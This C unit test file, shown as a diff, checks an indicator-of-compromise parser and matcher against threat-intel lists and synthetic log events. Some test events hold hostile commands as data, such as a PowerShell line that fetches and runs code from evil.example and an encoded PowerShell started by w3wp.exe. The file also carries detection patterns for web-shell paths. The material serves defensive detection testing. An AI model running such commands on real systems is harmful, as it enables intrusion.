@@ -1,0 +1,654 @@
+/* Indicators: what files say, in which form it is kept, which events name it. */
+#include "check.h"
+
+#include "base/alloc.h"
+#include "rules/corpus.h"
+#include "rules/events.h"
+#include "rules/indicators/indicator.h"
+
+struct set {
+	struct field_names *names;
+	struct indicator_set *set;
+	struct indicator_matcher *matcher;
+};
+
+static const struct indicator_options plain = {0};
+
+static void set_open(struct set *s, const struct indicator_options *o)
+{
+	*s = (struct set){0};
+	CHECK_EQ(field_names_open(&s->names, NULL), ST_OK);
+	CHECK_EQ(indicators_open(&s->set, s->names, o, NULL), ST_OK);
+}
+
+static void set_add_text(struct set *s, const char *name, const char *text)
+{
+	struct err err = {0};
+
+	if (indicators_add_file(s->set, name, span_str(text), &err) < 0)
+		fail_msg("%s", err.text);
+}
+
+static void set_ready(struct set *s)
+{
+	CHECK_EQ(indicators_compile(s->set, NULL), ST_OK);
+	field_names_freeze(s->names);
+	CHECK_EQ(indicator_matcher_open(&s->matcher, s->set, NULL), ST_OK);
+}
+
+static void set_close(struct set *s)
+{
+	indicator_matcher_close(s->matcher);
+	indicators_close(s->set);
+	field_names_close(s->names);
+}
+
+/* --- what a line is taken for --- */
+
+static const struct {
+	const char *line;
+	const char *kind;  /* NULL: refused */
+	const char *value; /* canonical */
+} lines[] = {
+	{"203.0.113.5", "address", "203.0.113.5"},
+	{" 203[.]0[.]113[.]5 ", "address", "203.0.113.5"},
+	{"203(.)0.113{.}5", "address", "203.0.113.5"},
+	{"203[dot]0(dot)113.5", "address", "203.0.113.5"},
+	{"203.0.113.5:8443", "address", "203.0.113.5"},
+	{"\"203.0.113.5\",", "address", "203.0.113.5"},
+	{"203.0.113.0/24", "network", "203.0.113.0/24"},
+	{"203.0.113.77/24", "network", "203.0.113.0/24"},
+	{"203.0.113.5/32", "address", "203.0.113.5"},
+	{"2001:db8::1", "address", "2001:db8::1"},
+	{"2001[:]db8::1", "address", "2001:db8::1"},
+	{"2001:DB8::/32", "network", "2001:db8::/32"},
+	{"evil.example", "domain", "evil.example"},
+	{"EVIL[.]Example.", "domain", "evil.example"},
+	{"*.evil.example", "domain", "evil.example"},
+	{".evil.example", "domain", "evil.example"},
+	{"0.0.0.0 evil.example", "domain", "evil.example"},
+	{"127.0.0.1\tevil.example", "domain", "evil.example"},
+	{"hxxp://evil[.]example/A?b=C#d", "url", "evil.example/A?b=C"},
+	{"hXXps://EVIL.example:443/", "url", "evil.example"},
+	{"http[:]//evil.example:80/x", "url", "evil.example/x"},
+	{"https://u:p@evil.example/x", "url", "evil.example/x"},
+	{"evil.example/x/y", "url", "evil.example/x/y"},
+	{"ftp://203.0.113.5/x", "url", "203.0.113.5/x"},
+	{"Bad[@]Evil.example", "email", "bad@evil.example"},
+	{"bad(at)evil.example", "email", "bad@evil.example"},
+	{"bad[at]evil[.]example", "email", "bad@evil.example"},
+	{"D41D8CD98F00B204E9800998ECF8427E", "hash",
+	 "d41d8cd98f00b204e9800998ecf8427e"},
+	{"da39a3ee5e6b4b0d3255bfef95601890afd80709", "hash",
+	 "da39a3ee5e6b4b0d3255bfef95601890afd80709"},
+	{"e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855  "
+	 "empty.bin",
+	 "hash",
+	 "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"},
+	{"d41d8cd98f00b204e9800998ecf8427e # empty", "hash",
+	 "d41d8cd98f00b204e9800998ecf8427e"},
+	{"Evil.EXE", "file", "evil.exe"},
+	{"logg.aspx", "file", "logg.aspx"},
+	{"C:\\Windows\\Temp\\X.exe", "path", "c:/windows/temp/x.exe"},
+	{"C:/Windows/Temp/x.exe", "path", "c:/windows/temp/x.exe"},
+	{"\\owa\\auth\\x.aspx", "path", "/owa/auth/x.aspx"},
+	{"owa\\auth\\x.aspx", "path", "/owa/auth/x.aspx"},
+	{"%TEMP%\\x.exe", "path", "/x.exe"},
+	{"C:\\ProgramData\\COM1\\", "folder", "c:/programdata/com1/"},
+	{"/owa/auth/X.js", "request", "/owa/auth/x.js"},
+	{"/owa/auth/x.js?y=1", "request", "/owa/auth/x.js"},
+	{"HKLM\\Software\\Run\\X", "key", "software/run/x"},
+	{"HKEY_LOCAL_MACHINE\\Software\\Run\\X", "key", "software/run/x"},
+	{"Mozilla/5.0+(X)+Bad/1.0", "agent", "Mozilla/5.0 (X) Bad/1.0"},
+	{"[ipv4-addr:value = '203.0.113.5']", "address", "203.0.113.5"},
+	{"[domain-name:value IN ('evil.example')]", "domain", "evil.example"},
+	{"[file:hashes.MD5 = 'd41d8cd98f00b204e9800998ecf8427e']", "hash",
+	 "d41d8cd98f00b204e9800998ecf8427e"},
+	{"[process:command_line LIKE '%-enc%']", "pattern",
+	 "[process:command_line LIKE '%-enc%']"},
+	{"([url:value = 'a'] AND [url:value = 'b']) WITHIN 5 SECONDS",
+	 "pattern",
+	 "([url:value = 'a'] AND [url:value = 'b']) WITHIN 5 SECONDS"},
+	{"nonsense", NULL, "of no kind that can be told"},
+	{"256.1.1.1", NULL, "of no kind that can be told"},
+	{"203.0.113.0/33", NULL, "of no kind that can be told"},
+	{"1.2.3", NULL, "of no kind that can be told"},
+	{"abcdef", NULL, "of no kind that can be told"},
+	{"C:\\x*\\y.exe", NULL, "a path with * or ?"},
+	{"[ipv4-addr:value = ]", NULL, NULL},
+	{"# a comment", NULL, ""},
+	{"; another", NULL, ""},
+	{"// and another", NULL, ""},
+	{"", NULL, ""},
+};
+
+static void check_line(size_t n)
+{
+	struct set s;
+	struct buf value;
+
+	set_open(&s, &plain);
+	set_add_text(&s, "list.txt", lines[n].line);
+	set_ready(&s);
+	if (!lines[n].kind) {
+		bool silent = lines[n].value && !*lines[n].value;
+
+		if (indicators_count(s.set) ||
+		    indicators_refused(s.set) != !silent)
+			fail_msg("%s: not refused", lines[n].line);
+		if (!silent && lines[n].value)
+			CHECK_TEXT(indicator_refusal(s.set, 0)->why,
+				   lines[n].value);
+		set_close(&s);
+		return;
+	}
+	if (indicators_count(s.set) != 1)
+		fail_msg("%s: %zu indicators", lines[n].line,
+			 indicators_count(s.set));
+	buf_init(&value, 4096);
+	indicator_value(&value, s.set, 0);
+	if (strcmp(indicator_kind_name(indicator_info(s.set, 0).kind),
+		   lines[n].kind) != 0 ||
+	    !span_is(buf_span(&value), lines[n].value))
+		fail_msg("%s: %s %.*s", lines[n].line,
+			 indicator_kind_name(indicator_info(s.set, 0).kind),
+			 SPAN_ARG(buf_span(&value)));
+	CHECK_EQ(indicator_info(s.set, 0).line, 1);
+	buf_release(&value);
+	set_close(&s);
+}
+
+static void a_line_is_told_by_its_form(void **state)
+{
+	(void)state;
+	for (size_t i = 0; i < ARRAY_LEN(lines); i++)
+		check_line(i);
+}
+
+/* --- which events name it --- */
+
+static const struct {
+	const char *list;
+	enum log_kind log;
+	const char *event; /* fields parted by | */
+	int matches;
+} named[] = {
+	{"203.0.113.5", LOG_IIS, "client=203.0.113.5", 1},
+	{"203.0.113.5", LOG_IIS, "client=203.0.113.6", 0},
+	{"203.0.113.5", LOG_IIS, "client=::ffff:203.0.113.5", 1},
+	{"203.0.113.5", LOG_IIS, "forwarded=10.0.0.1, 203.0.113.5", 1},
+	{"203.0.113.5", LOG_IIS, "query=203.0.113.5", 0},
+	{"203.0.113.5", LOG_SMTP_RECEIVE, "client=203.0.113.5", 1},
+	{"203.0.113.5", LOG_EVTX, "IpAddress=203.0.113.5", 1},
+	{"203.0.113.5", LOG_EVTX, "DestinationIp=203.0.113.5", 1},
+	{"203.0.113.5", LOG_EVTX, "CommandLine=ping -n 1 203.0.113.5", 1},
+	{"203.0.113.5", LOG_EVTX, "CommandLine=x http://203.0.113.5:80/a", 1},
+	{"203.0.113.0/24", LOG_IIS, "client=203.0.113.255", 1},
+	{"203.0.113.0/24", LOG_IIS, "client=203.0.114.0", 0},
+	{"203.0.113.128/25", LOG_IIS, "client=203.0.113.127", 0},
+	{"0.0.0.0/0", LOG_IIS, "client=198.51.100.1", 1},
+	{"2001:db8::/33", LOG_IIS, "client=2001:db8:7fff::1", 1},
+	{"2001:db8::/33", LOG_IIS, "client=2001:db8:8000::1", 0},
+	{"evil.example", LOG_IIS, "host=evil.example", 1},
+	{"evil.example", LOG_IIS, "host=EVIL.example:443", 1},
+	{"evil.example", LOG_IIS, "host=www.evil.example", 1},
+	{"evil.example", LOG_IIS, "host=notevil.example", 0},
+	{"evil.example", LOG_IIS, "host=evil.example.org", 0},
+	{"evil.example", LOG_IIS, "referer=https://a.evil.example/x", 1},
+	{"evil.example", LOG_EVTX, "QueryName=a.b.evil.example", 1},
+	{"evil.example", LOG_EVTX,
+	 "ScriptBlockText=iwr 'http://evil.example/x' | iex", 1},
+	{"evil.example", LOG_EVTX, "ScriptBlockText=$u=evil.example;", 1},
+	{"evil.example", LOG_MESSAGE_TRACKING, "sender=a@evil.example", 1},
+	{"http://evil.example/x", LOG_IIS, "referer=http://evil.example/x", 1},
+	{"http://evil.example/x", LOG_IIS, "referer=https://EVIL.example/x/",
+	 1},
+	{"http://evil.example/x", LOG_IIS, "referer=http://evil.example/y", 0},
+	{"http://evil.example/x", LOG_IIS, "referer=http://evil.example/x?a=1",
+	 1},
+	{"http://evil.example/x", LOG_EVTX,
+	 "CommandLine=curl \"http://evil.example/x\"", 1},
+	{"a@evil.example", LOG_MESSAGE_TRACKING,
+	 "recipients=b@x.example;A@Evil.example", 1},
+	{"a@evil.example", LOG_MESSAGE_TRACKING, "sender=ba@evil.example", 0},
+	{"Mozilla/5.0 (Bad)", LOG_IIS, "agent=Mozilla/5.0+(Bad)", 1},
+	{"Mozilla/5.0+(Bad)", LOG_HTTPPROXY, "agent=Mozilla/5.0 (Bad)", 1},
+	{"Mozilla/5.0 (Bad)", LOG_IIS, "agent=Mozilla/5.0+(Bad)+x", 0},
+	{"d41d8cd98f00b204e9800998ecf8427e", LOG_EVTX,
+	 "Hashes=SHA1=00,MD5=D41D8CD98F00B204E9800998ECF8427E", 1},
+	{"d41d8cd98f00b204e9800998ecf8427e", LOG_EVTX,
+	 "Hashes=MD5=D41D8CD98F00B204E9800998ECF8427F", 0},
+	{"evil.exe", LOG_EVTX, "Image=C:\\Windows\\EVIL.exe", 1},
+	{"evil.exe", LOG_EVTX, "Image=C:\\Windows\\notevil.exe", 0},
+	{"evil.exe", LOG_EVTX, "CommandLine=cmd /c evil.exe -x", 1},
+	{"\\owa\\auth\\x.aspx", LOG_EVTX,
+	 "TargetFilename=C:\\inetpub\\owa\\auth\\X.aspx", 1},
+	{"\\owa\\auth\\x.aspx", LOG_EVTX,
+	 "TargetFilename=C:\\inetpub\\xowa\\auth\\x.aspx", 0},
+	{"C:\\a\\b.exe", LOG_EVTX, "Image=C:\\a\\b.exe", 1},
+	{"C:\\a\\b.exe", LOG_EVTX, "Image=D:\\a\\b.exe", 0},
+	{"C:\\a\\b c.exe", LOG_EVTX, "CommandLine=\"C:\\a\\b c.exe\" -x", 1},
+	{"\\a\\bcd.exe", LOG_EVTX,
+	 "Image=\\Device\\HarddiskVolume2\\a\\bcd.exe", 1},
+	{"C:\\ProgramData\\COM1\\", LOG_EVTX,
+	 "TargetFilename=C:\\ProgramData\\COM1\\deep\\x.aspx", 1},
+	{"C:\\ProgramData\\COM1\\", LOG_EVTX,
+	 "TargetFilename=C:\\ProgramData\\COM10\\x.aspx", 0},
+	{"\\VSPerfMon\\", LOG_EVTX,
+	 "TargetFilename=C:\\ProgramData\\VSPerfMon\\x.dll", 1},
+	{"\\ProgramData\\VSPerfMon\\", LOG_EVTX,
+	 "TargetFilename=D:\\x\\ProgramData\\vsperfmon\\x.dll", 1},
+	{"/owa/auth/x.js", LOG_IIS, "stem=/OWA/auth/x.js", 1},
+	{"/owa/auth/x.js", LOG_IIS, "stem=/owa/auth/x.jsx", 0},
+	{"HKLM\\Software\\Run", LOG_EVTX,
+	 "TargetObject=HKLM\\Software\\Run\\Name", 1},
+	{"HKLM\\Software\\Run", LOG_EVTX,
+	 "TargetObject=HKLM\\Software\\Runs\\Name", 0},
+	{"value,type\nmsupdate,service-name\n", LOG_EVTX,
+	 "ServiceName=MSUpdate", 1},
+	{"value,type\nWinnet,scheduled-task-name\n", LOG_EVTX,
+	 "TaskName=\\Winnet", 1},
+	{"value,type\n/ecp/y.js,uri-post\n", LOG_IIS,
+	 "method=POST|stem=/ecp/y.js", 1},
+	{"value,type\n/ecp/y.js,uri-post\n", LOG_IIS,
+	 "method=GET|stem=/ecp/y.js", 0},
+	{"value,type\n^/ecp/[a-z]\\.js$,uri-post-regex\n", LOG_IIS,
+	 "method=POST|stem=/ecp/Z.js", 1},
+	{"value,type\n^/ecp/[a-z]\\.js$,uri-post-regex\n", LOG_IIS,
+	 "method=POST|stem=/ecp/zz.js", 0},
+	{"value,type\n\\\\[a-z]{8}\\.aspx$,file-path-regex\n", LOG_EVTX,
+	 "TargetFilename=C:\\x\\abcdefgh.aspx", 1},
+	{"[network-traffic:src_ref.value = '203.0.113.5' AND "
+	 "network-traffic:dst_port = 443]",
+	 LOG_IIS, "client=203.0.113.5|port=443", 1},
+	{"[network-traffic:src_ref.value = '203.0.113.5' AND "
+	 "network-traffic:dst_port = 443]",
+	 LOG_IIS, "client=203.0.113.5|port=80", 0},
+	{"[network-traffic:extensions.'http-request-ext'.request_header."
+	 "'User-Agent' LIKE 'Bad %']",
+	 LOG_IIS, "agent=Bad+1.0", 1},
+	{"[file:name = 'a.exe' AND file:hashes.MD5 = "
+	 "'d41d8cd98f00b204e9800998ecf8427e']",
+	 LOG_EVTX,
+	 "Image=C:\\A.exe|Hashes=MD5=D41D8CD98F00B204E9800998ECF8427E", 1},
+	{"[file:name = 'a.exe' AND file:hashes.MD5 = "
+	 "'d41d8cd98f00b204e9800998ecf8427e']",
+	 LOG_EVTX,
+	 "Image=C:\\A.exe|ImageLoaded=C:\\b.dll|"
+	 "Hashes=MD5=D41D8CD98F00B204E9800998ECF8427E",
+	 0},
+	{"[process:command_line MATCHES '-e[nc]+ ' AND process:parent_ref.name "
+	 "= 'w3wp.exe']",
+	 LOG_EVTX, "CommandLine=powershell -enc AA|ParentImage=C:\\w3wp.exe",
+	 1},
+	{"[windows-registry-key:key = 'HKEY_LOCAL_MACHINE\\\\Software\\\\Run' "
+	 "AND windows-registry-key:values[*].data LIKE '%x.exe']",
+	 LOG_EVTX, "TargetObject=HKLM\\Software\\Run\\N|Details=C:\\x.exe", 1},
+	{"[user-account:user_id = 'Bob' OR ipv4-addr:value ISSUBSET "
+	 "'203.0.113.0/24']",
+	 LOG_IIS, "user=BOB", 1},
+	{"[email-message:subject MATCHES '^Pay' AND "
+	 "email-message:from_ref.value LIKE '%@evil.example']",
+	 LOG_MESSAGE_TRACKING, "sender=a@EVIL.example|subject=Pay now", 1},
+};
+
+static void events_name_what_they_hold(void **state)
+{
+	(void)state;
+	for (size_t i = 0; i < ARRAY_LEN(named); i++) {
+		const struct indicator_match *m;
+		struct made_event e;
+		struct set s;
+		int n;
+
+		set_open(&s, &plain);
+		set_add_text(&s, "x", named[i].list);
+		set_ready(&s);
+		made_event_init(&e, s.names, named[i].log);
+		made_event_read(&e, named[i].event);
+		e.event.inner = &e;
+		for (int again = 0; again < 2; again++) {
+			n = indicators_match(s.matcher, &e.event, &m, NULL);
+			if (n != named[i].matches)
+				fail_msg("%s over %s: %d", named[i].list,
+					 named[i].event, n);
+		}
+		set_close(&s);
+	}
+}
+
+/* --- time --- */
+
+static void what_changes_hands_counts_in_its_time(void **state)
+{
+	static const char table[] =
+		"indicator,type,valid_from,valid_until,first_seen\n"
+		"203.0.113.5,ip,2021-03-01,2021-03-31,\n"
+		"203.0.113.6,ip,,,2021-01 to 2021-03\n"
+		"evil.exe,filename,2021-03-01,2021-03-31,\n";
+	static const struct {
+		const char *event, *when;
+		enum log_kind log;
+		int matches, any;
+	} cases[] = {
+		{"client=203.0.113.5", "2021-02-28T23:59:59Z", LOG_IIS, 0, 1},
+		{"client=203.0.113.5", "2021-03-01T00:00:00Z", LOG_IIS, 1, 1},
+		{"client=203.0.113.5", "2021-03-31T23:59:59Z", LOG_IIS, 1, 1},
+		{"client=203.0.113.5", "2021-04-01T00:00:00Z", LOG_IIS, 0, 1},
+		{"client=203.0.113.6", "2020-12-31T23:59:59Z", LOG_IIS, 0, 1},
+		{"client=203.0.113.6", "2021-01-01T00:00:00Z", LOG_IIS, 1, 1},
+		{"client=203.0.113.6", "2021-03-31T23:59:59Z", LOG_IIS, 1, 1},
+		{"client=203.0.113.6", "2021-04-01T00:00:00Z", LOG_IIS, 0, 1},
+		/* a file is what it is */
+		{"Image=C:\\evil.exe", "2024-01-01T00:00:00Z", LOG_EVTX, 1, 1},
+	};
+
+	(void)state;
+	for (unsigned any = 0; any < 2; any++) {
+		struct indicator_options o = {.any_time = any};
+		uint64_t outside = 0;
+		struct set s;
+
+		set_open(&s, &o);
+		set_add_text(&s, "x.csv", table);
+		set_ready(&s);
+		for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
+			const struct indicator_match *m;
+			struct made_event e;
+			int n, expected;
+
+			made_event_init(&e, s.names, cases[i].log);
+			made_event_read(&e, cases[i].event);
+			e.event.inner = &e;
+			CHECK(time_from_text(span_str(cases[i].when),
+					     &e.event.time_ns));
+			n = indicators_match(s.matcher, &e.event, &m, NULL);
+			expected = any ? cases[i].any : cases[i].matches;
+			if (n != expected)
+				fail_msg("%s at %s: %d", cases[i].event,
+					 cases[i].when, n);
+			outside += !cases[i].matches;
+		}
+		CHECK_EQ(indicator_matcher_outside(s.matcher),
+			 any ? 0 : outside);
+		set_close(&s);
+	}
+}
+
+/* --- several events --- */
+
+static void patterns_over_several_events_are_bound(void **state)
+{
+	static const char *const clients[] = {"203.0.113.5", "203.0.113.9",
+					      "203.0.113.5", "203.0.113.5"};
+	const struct indicator_together *t;
+	size_t count = 0;
+	struct set s;
+
+	(void)state;
+	set_open(&s, &plain);
+	set_add_text(&s, "x",
+		     "[ipv4-addr:value = '203.0.113.5'] REPEATS 3 TIMES WITHIN "
+		     "60 SECONDS\n"
+		     "[ipv4-addr:value = '203.0.113.9'] FOLLOWEDBY "
+		     "[ipv4-addr:value = '203.0.113.5']\n"
+		     "[ipv4-addr:value = '203.0.113.5'] REPEATS 4 TIMES\n");
+	set_ready(&s);
+	for (size_t i = 0; i < ARRAY_LEN(clients); i++) {
+		const struct indicator_match *m;
+		struct made_event e;
+
+		made_event_init(&e, s.names, LOG_IIS);
+		CHECK(made_event_put(&e, SPAN_LIT("client"),
+				     span_str(clients[i])));
+		e.event.inner = &e;
+		e.event.time_ns = (int64_t)i * 10 * NS_PER_SECOND;
+		indicators_mark(s.matcher, i);
+		CHECK_EQ(indicators_match(s.matcher, &e.event, &m, NULL), 0);
+		CHECK(indicators_marked(s.matcher));
+	}
+	CHECK_EQ(indicators_finish(s.matcher, &t, &count, NULL), ST_OK);
+	CHECK_EQ(count, 2);
+	CHECK_EQ(t[0].mark_count, 3);
+	CHECK_EQ(t[0].mark[0], 0);
+	CHECK_EQ(t[0].mark[2], 3);
+	CHECK_EQ(t[1].mark_count, 2);
+	CHECK_EQ(t[1].mark[0], 1);
+	CHECK_EQ(t[1].mark[1], 2);
+	CHECK_EQ(indicators_lost(s.matcher), 0);
+	set_close(&s);
+}
+
+/* --- warning lists --- */
+
+static void warning_lists_take_out(void **state)
+{
+	static const char lists[][400] = {
+		"{\"name\":\"Nets\",\"type\":\"cidr\",\"list\":[\"10.0.0.0/8\","
+		"\"2001:db8::/32\"],\"matching_attributes\":[\"ip-src\"]}",
+		"{\"name\":\"Names\",\"type\":\"hostname\",\"list\":["
+		"\"good.example\"],\"matching_attributes\":[\"domain\","
+		"\"url\"]}",
+		"{\"name\":\"Exact\",\"type\":\"string\",\"list\":["
+		"\"only.example\",\".below.example\"],"
+		"\"matching_attributes\":[\"domain\"]}",
+		"{\"name\":\"Pieces\",\"type\":\"substring\",\"list\":["
+		"\"-cdn-\"],\"matching_attributes\":[\"domain\"]}",
+		"{\"name\":\"Forms\",\"type\":\"regex\",\"list\":["
+		"\"/^t[0-9]+\\\\.example$/i\"],\"matching_attributes\":["
+		"\"domain\"]}",
+		"{\"name\":\"Empty\",\"type\":\"string\",\"list\":["
+		"\"d41d8cd98f00b204e9800998ecf8427e\"],"
+		"\"matching_attributes\":[\"md5\"]}",
+	};
+	static const struct {
+		const char *value, *list; /* NULL: stays */
+	} cases[] = {
+		{"10.1.2.3", "Nets"},
+		{"10.1.0.0/16", "Nets"},
+		{"8.0.0.0/5", NULL}, /* wider than the listed one */
+		{"11.1.2.3", NULL},
+		{"2001:db8::5", "Nets"},
+		{"good.example", "Names"},
+		{"a.good.example", "Names"},
+		{"notgood.example", NULL},
+		{"http://a.good.example/x", "Names"},
+		{"only.example", "Exact"},
+		{"a.only.example", NULL},
+		{"x.below.example", "Exact"},
+		{"a-cdn-b.example", "Pieces"},
+		{"T12.example", "Forms"},
+		{"t12x.example", NULL},
+		{"d41d8cd98f00b204e9800998ecf8427e", "Empty"},
+		{"d41d8cd98f00b204e9800998ecf8427f", NULL},
+	};
+
+	(void)state;
+	for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
+		struct err err = {0};
+		struct set s;
+
+		set_open(&s, &plain);
+		for (size_t k = 0; k < ARRAY_LEN(lists); k++)
+			if (indicators_add_warnings(
+				    s.set, "w", span_str(lists[k]), &err) < 0)
+				fail_msg("%s", err.text);
+		set_add_text(&s, "x", cases[i].value);
+		set_ready(&s);
+		if (indicators_warned(s.set) != (cases[i].list != NULL))
+			fail_msg("%s", cases[i].value);
+		if (cases[i].list)
+			CHECK_TEXT(indicator_refusal(s.set, 0)->why,
+				   cases[i].list);
+		set_close(&s);
+	}
+}
+
+/* --- files of others --- */
+
+static const struct {
+	const char *file;
+	size_t indicators;
+	uint64_t refused;
+} corpora[] = {
+#include "corpora_intel.inc"
+};
+
+static void the_shared_intelligence_is_read_whole(void **state)
+{
+	const char *folder = corpora_folder();
+
+	(void)state;
+	if (!folder)
+		skip();
+	for (size_t i = 0; i < ARRAY_LEN(corpora); i++) {
+		char name[4096];
+		struct span bytes;
+		struct err err = {0};
+		struct set s;
+
+		snprintf(name, sizeof(name), "%s/intel/%s", folder,
+			 corpora[i].file);
+		bytes = file_bytes(name);
+		set_open(&s, &plain);
+		if (indicators_add_file(s.set, corpora[i].file, bytes, &err) <
+		    0)
+			fail_msg("%s", err.text);
+		if (indicators_count(s.set) != corpora[i].indicators ||
+		    indicators_refused(s.set) != corpora[i].refused)
+			fail_msg("%s: %zu, %llu refused", corpora[i].file,
+				 indicators_count(s.set),
+				 (unsigned long long)indicators_refused(s.set));
+		mem_free((void *)(uintptr_t)bytes.ptr);
+		set_ready(&s);
+		set_close(&s);
+	}
+}
+
+static const char bundle[] =
+	"{\"type\":\"bundle\",\"objects\":[{\"type\":\"indicator\",\"id\":"
+	"\"indicator--1\",\"pattern_type\":\"stix\",\"confidence\":80,"
+	"\"name\":\"it\\u0073 \\ud83d\\ude00\",\"valid_from\":"
+	"\"2021-03-01T00:00:00Z\",\"pattern\":\"[ipv4-addr:value = "
+	"'203.0.113.5' OR file:name = 'evil.exe']\"},{\"type\":\"indicator\","
+	"\"revoked\":true,\"id\":\"i2\",\"pattern\":\"[a:b = 1]\"},{\"type\":"
+	"\"indicator\",\"pattern_type\":\"yara\",\"pattern\":\"x\"}]}";
+
+static const char event[] =
+	"{\"response\":[{\"Event\":{\"Attribute\":[{\"type\":\"ip-dst|port\","
+	"\"value\":\"203.0.113.5|443\",\"to_ids\":true,\"uuid\":\"u1\"},"
+	"{\"type\":\"domain\",\"value\":\"a.example\",\"to_ids\":false},"
+	"{\"type\":\"sha1\",\"value\":\"xx\",\"to_ids\":true},"
+	"{\"type\":\"md5\",\"value\":\"d41d8cd98f00b204e9800998ecf8427e\","
+	"\"to_ids\":true,\"Sighting\":[{\"type\":\"1\"}]},"
+	"{\"type\":\"domain\",\"value\":\"b.example\",\"to_ids\":true,"
+	"\"deleted\":true}],\"Object\":[{\"name\":\"file\",\"Attribute\":[{"
+	"\"type\":\"filename|md5\",\"to_ids\":true,\"value\":\"evil.exe|"
+	"d41d8cd98f00b204e9800998ecf8427e\"}]}],\"Orgc\":{\"name\":\"CERT\"},"
+	"\"info\":\"What it is\",\"ShadowAttribute\":[{\"type\":\"md5\"}]}}]}";
+
+static void bundles_and_events_keep_what_they_say(void **state)
+{
+	struct indicator_info i;
+	struct set s;
+
+	(void)state;
+	set_open(&s, &plain);
+	set_add_text(&s, "bundle.json", bundle);
+	CHECK_EQ(indicators_count(s.set), 2);
+	CHECK_EQ(indicators_refused(s.set), 2);
+	i = indicator_info(s.set, 0);
+	CHECK_EQ(i.kind, IND_ADDRESS);
+	CHECK_EQ(i.confidence, IND_CONFIDENCE_HIGH);
+	CHECK_EQ(i.strength, IND_WEAK); /* an address is never proof */
+	CHECK_SPAN(i.id, "indicator--1");
+	CHECK_SPAN(i.title, "its \xf0\x9f\x98\x80");
+	CHECK_EQ(i.from_ns, INT64_C(1614556800) * NS_PER_SECOND);
+	set_add_text(&s, "event.json", event);
+	CHECK_EQ(indicators_count(s.set), 6);
+	CHECK_EQ(indicators_refused(s.set), 6);
+	i = indicator_info(s.set, 2);
+	CHECK_SPAN(i.author, "CERT");
+	CHECK_SPAN(i.title, "What it is");
+	CHECK_SPAN(i.id, "u1");
+	CHECK_EQ(indicator_info(s.set, 3).strength, IND_WEAK); /* false alarm */
+	CHECK_EQ(indicator_info(s.set, 4).kind, IND_NAME);
+	CHECK_EQ(indicator_info(s.set, 5).kind, IND_HASH);
+	CHECK_EQ(indicator_info(s.set, 5).strength, IND_STRONG);
+	set_ready(&s);
+	set_close(&s);
+}
+
+static void every_truncation_says_where(void **state)
+{
+	static const char *const files[] = {bundle, event};
+
+	(void)state;
+	for (size_t f = 0; f < ARRAY_LEN(files); f++)
+		for (size_t n = 1; n < strlen(files[f]); n++) {
+			struct err err = {0};
+			struct set s;
+
+			set_open(&s, &plain);
+			CHECK_EQ(indicators_add_file(s.set, "cut.json",
+						     span_of(files[f], n),
+						     &err),
+				 ST_FORMAT);
+			CHECK(strstr(err.text, "cut.json: byte ") == err.text);
+			set_ready(&s);
+			set_close(&s);
+		}
+}
+
+static void every_failing_allocation_is_told(void **state)
+{
+	static const char *const files[] = {
+		bundle, event, "203.0.113.5\n[url:value LIKE 'x%']\n",
+		"value,type\n\"a\"\"b.example\",domain\n^x$,uri-regex\n"};
+
+	(void)state;
+	for (unsigned long n = 1;; n++) {
+		struct indicator_matcher *m = NULL;
+		struct indicator_set *set = NULL;
+		struct field_names *names = NULL;
+		struct err err = {0};
+		bool failed;
+		int s;
+
+		CHECK_EQ(field_names_open(&names, NULL), ST_OK);
+		alloc_fail_at(n);
+		s = indicators_open(&set, names, &plain, &err);
+		for (size_t f = 0; f < ARRAY_LEN(files) && s == ST_OK; f++)
+			s = indicators_add_file(set, "x", span_str(files[f]),
+						&err);
+		if (s == ST_OK)
+			s = indicators_compile(set, &err);
+		if (s == ST_OK)
+			s = indicator_matcher_open(&m, set, &err);
+		failed = alloc_did_fail();
+		alloc_fail_at(0);
+		CHECK(failed ? s == ST_NOMEM || s == ST_OK : s == ST_OK);
+		indicator_matcher_close(m);
+		indicators_close(set);
+		field_names_close(names);
+		if (!failed)
+			break;
+	}
+}
+
+int main(void)
+{
+	const struct CMUnitTest tests[] = {
+		cmocka_unit_test(a_line_is_told_by_its_form),
+		cmocka_unit_test(events_name_what_they_hold),
+		cmocka_unit_test(what_changes_hands_counts_in_its_time),
+		cmocka_unit_test(patterns_over_several_events_are_bound),
+		cmocka_unit_test(warning_lists_take_out),
+		cmocka_unit_test(the_shared_intelligence_is_read_whole),
+		cmocka_unit_test(bundles_and_events_keep_what_they_say),
+		cmocka_unit_test(every_truncation_says_where),
+		cmocka_unit_test(every_failing_allocation_is_told),
+	};
+
+	return RUN_TESTS(tests);
+}
